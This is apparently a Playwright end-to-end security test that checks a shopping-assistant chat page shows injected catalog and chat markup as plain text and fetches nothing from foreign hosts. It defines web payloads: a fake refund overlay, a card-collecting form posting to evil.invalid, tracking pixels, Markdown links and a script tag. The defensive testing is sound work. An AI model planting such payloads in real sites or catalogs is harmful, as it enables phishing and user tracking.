"""Markup from outside, in headless Chromium: HTML, a CSS overlay, a form, remote images and
Markdown links in every text field of a catalog, and in the shopper's own messages. Whatever the
page shows (cards, details, chat, comparison, wishlist), nothing renders as markup and the
browser fetches nothing from anywhere but the chat's own server."""

import json
import shutil
from urllib.parse import urlparse

import pytest

from tests.test_browser import (  # noqa: F401
    ARTIFACTS,
    CARDS,
    CHAT,
    INPUT,
    WAIT_MS,
    ask,
    free_port,
    wait_for_cards,
)
from ui.page import serve

pytestmark = [pytest.mark.browser, pytest.mark.e2e]

# Each fits the catalog's shortest field limit (style, occasion, tags: 100 characters).
OVERLAY = '<div class="pwn-overlay" style="position:fixed;inset:0;z-index:9;background:red">CLAIM REFUND</div>'
FORM = '<form id="pwn-form" action="http://evil.invalid/s"><input name="card"><button>Pay</button></form>'
PIXEL = '<img class="pwn-img" src="http://tracker.invalid/pixel.png">'
MD_LINK = "[claim your refund](http://evil.invalid/refund)"
MD_IMAGE = "![pixel](http://tracker.invalid/md.png)"
AUTOLINK = "http://evil.invalid/auto and www.evil.invalid"
MD_FORMAT = "# Heading **bold** `code` | a | b |"
SCRIPT = "<script>window.pwned = 1</script>"
PAYLOADS = (OVERLAY, FORM, PIXEL, MD_LINK, MD_IMAGE, AUTOLINK, MD_FORMAT, SCRIPT)
RENDERED = ".pwn-overlay, #pwn-form, .pwn-img, img[src*='invalid'], a[href*='invalid'], #facet-chat h1, #facet-detail-text h1"


def poisoned_rows(image: str) -> list[dict]:
    """Rings whose every text field carries markup; one plain ring beside them."""
    base = {"category": "ring", "metal": "white gold", "currency": "USD", "image": image, "in_stock": True}
    assert all(len(payload) <= 100 for payload in PAYLOADS)
    rows = [
        {**base, "id": f"X{n}", "title": f"Ring {payload}", "price": 100 + n, "description": " ".join(PAYLOADS),
         "style": payload, "occasion": payload, "tags": [payload, MD_LINK]}
        for n, payload in enumerate(PAYLOADS)
    ]  # fmt: skip
    return rows + [{**base, "id": "PLAIN", "title": "Plain White Gold Ring", "price": 90, "description": "A plain band."}]


@pytest.fixture(scope="module")
def poisoned_server(tmp_path_factory, demo_assistant):
    from assistant.assistant import Assistant

    folder = tmp_path_factory.mktemp("poisoned-catalog")
    picture = next((demo_assistant.settings.demo_dir / "images").iterdir())
    shutil.copy(picture, folder / "ring.png")
    catalog = folder / "catalog.jsonl"
    catalog.write_text("\n".join(json.dumps(row) for row in poisoned_rows("ring.png")) + "\n")
    settings = demo_assistant.settings.model_copy(update={"data_dir": tmp_path_factory.mktemp("poisoned-data")})
    assistant = Assistant(settings, _fresh_index(settings, demo_assistant), demo_assistant.asr)
    report, errors = assistant.ingest(catalog, progress=False)
    assert not errors and report.ingested == len(PAYLOADS) + 1
    app = serve(assistant, host="127.0.0.1", port=free_port(), prevent_thread_lock=True, quiet=True)
    yield app.local_url
    app.close()


def _fresh_index(settings, demo_assistant):
    """An empty index of its own, with the demo's (already loaded) encoders."""
    from retrieval.index import CatalogIndex, connect

    index = demo_assistant.index
    return CatalogIndex(connect(settings.index, settings.chroma_dir), index.text_encoder, index.image_encoder, settings.index)


def test_markup_in_the_catalog_and_in_messages_is_shown_as_text_and_fetches_nothing(chromium, poisoned_server):
    from playwright.sync_api import expect

    context = chromium.new_context(viewport={"width": 1280, "height": 1000})
    page = context.new_page()
    page.set_default_timeout(WAIT_MS)
    expect.set_options(timeout=WAIT_MS)
    server_host = urlparse(poisoned_server).netloc
    foreign = []
    page.on("request", lambda request: foreign.append(request.url) if urlparse(request.url).netloc not in (server_host, "") and not request.url.startswith("data:") else None)
    page.goto(poisoned_server)
    page.wait_for_selector(INPUT)

    ask(page, "a white gold ring")
    assert len(wait_for_cards(page)) >= 2
    for position in range(min(page.locator(CARDS).count(), 5)):
        page.locator(CARDS).nth(position).click()
        expect(page.locator("#facet-detail-text")).to_contain_text("Ring")
        if position < 2:
            page.locator("#facet-save").click()
    # A description's HTML is read as text at ingest (retrieval/formats.py): the overlay's and the
    # form's words are shown, their elements never are (RENDERED below).
    expect(page.locator("#facet-detail-text")).to_contain_text("CLAIM REFUND")
    picks = page.locator("#facet-compare-pick label")
    picks.nth(0).click()
    picks.nth(1).click()
    expect(page.locator("#facet-comparison table")).to_be_visible()
    for message in (OVERLAY, f"{MD_LINK} {MD_IMAGE}", f"{FORM} {PIXEL}", MD_FORMAT, SCRIPT):
        ask(page, message)
        expect(page.locator(CHAT)).to_contain_text(message[:30])  # what the shopper typed, as typed
        expect(page.locator("#facet-status")).not_to_contain_text("…")
    page.screenshot(path=str(ARTIFACTS / "security_markup_payloads.png"), full_page=True)

    assert page.locator(RENDERED).count() == 0
    assert page.evaluate("window.pwned === undefined")
    assert not page.locator("#facet-chat strong, #facet-chat code, #facet-detail-text strong").filter(has_text="bold").count()
    assert foreign == []
    context.close()
